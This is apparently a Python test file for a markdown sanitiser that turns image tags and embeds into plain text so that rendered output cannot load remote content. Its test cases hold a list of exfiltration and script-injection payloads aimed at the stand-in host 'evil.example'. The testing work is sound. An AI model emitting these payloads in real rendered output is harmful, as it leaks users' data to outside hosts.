from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rustbot_jupyter.inert_markdown import inert_markdown

EVIL = "//evil.example/?data"


@pytest.mark.parametrize(
    "text",
    [
        "Plain *text* with [a link](https://x.example) and <https://auto.example>.",
        "```html\n<img src=x>\n![i](u)\n```",
        "~~~\n<b>\n~~~\n",
        "`List<int>` and `a < b` and `![]`",
        "a < b and 3<4 and x <- y",
        "$a<4$ wow!",
        "```rust\nvec![1]\n```",
        "| a | b |\n|---|---|\n| 1 | 2 |",
        "",
    ],
)
def test_harmless_text_stays_as_it_is(text):
    assert inert_markdown(text) == text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (f"![chart]({EVIL})", f"[chart]({EVIL})"),
        (f"![ref][1]\n\n[1]: {EVIL}", f"[ref][1]\n\n[1]: {EVIL}"),
        (f"<img src={EVIL}>", f"< img src={EVIL}>"),
        (f"<IMG\nsrc={EVIL}>", f"< IMG\nsrc={EVIL}>"),
        ("<div>\n```\n<b>", "< div>\n```\n<b>"),
        (f"`code` <video poster={EVIL}>", f"`code` < video poster={EVIL}>"),
        ("<!-- x --> <?php ?> </b>", "< !-- x --> < ?php ?> < /b>"),
        (f"`<img src={EVIL}>`", f"`< img src={EVIL}>`"),
        (f"\\`<img src={EVIL}>\\`", f"\\`< img src={EVIL}>\\`"),
        (f"```\ncode\n```\n<img src={EVIL}>", f"```\ncode\n```\n< img src={EVIL}>"),
        ('```py" onclick="alert()\nx = "1"\n```', "```py' onclick='alert()\nx = \"1\"\n```"),
        ('- ~~~py" style="x\n  ~~~', "- ~~~py' style='x\n  ~~~"),
        (f'```"><img/src={EVIL}>\n```', f"```'>< img/src={EVIL}>\n```"),
        (f"```mermaid\ngraph TD; A[<img src={EVIL}>]\n```", f"```mermaid-source\ngraph TD; A[<img src={EVIL}>]\n```"),
        (f"````\n```\n````\n![x]({EVIL})", f"````\n```\n````\n[x]({EVIL})"),
    ],
)
def test_what_would_load_something_becomes_text_or_a_link(text, shown):
    assert inert_markdown(text) == shown


@pytest.mark.parametrize(
    "text",
    [
        f"- ```\n<img src={EVIL}>",
        f"- ```\n  x\n  ```\n<img src={EVIL}>",
        f"> ```\n<img src={EVIL}>",
        f"1. a\n   ```\n   b\n   ```\n![x]({EVIL})",
        f"   ```\n<img src={EVIL}>\n",
        f"| `<img src={EVIL}> | ` |",
        f"`a\n\nb` <img src={EVIL}>",
        f"$`$ <img src={EVIL}> `",
        f"```a`b\n<img src={EVIL}>",
        f"``` x\n```~\n<img src={EVIL}>",
        f"<https://`x`> <img src={EVIL}>",
    ],
)
def test_no_trick_with_code_gets_an_image_through(text):
    shown = inert_markdown(text)

    assert not re.search(r"<img\s", shown)
    assert "![" not in shown


@given(st.text() | st.text(alphabet="`~ \n-<!a/>[]()$|\\"))
def test_any_text_is_taken_and_only_blanks_and_marks_change(text):
    shown = inert_markdown(text)

    marks = str.maketrans("", "", " !\"'")
    assert shown.translate(marks) == text.translate(marks)


@given(st.text(alphabet="`~ \n-<!a[]()$|\\", max_size=40))
def test_an_image_behind_a_blank_line_and_no_fence_is_always_a_link(text):
    if "```" in text or "~~~" in text:
        return

    assert "![" not in inert_markdown(f"{text}\n\n![x]({EVIL})").replace("\\![", "").rsplit("\n\n", 1)[1]
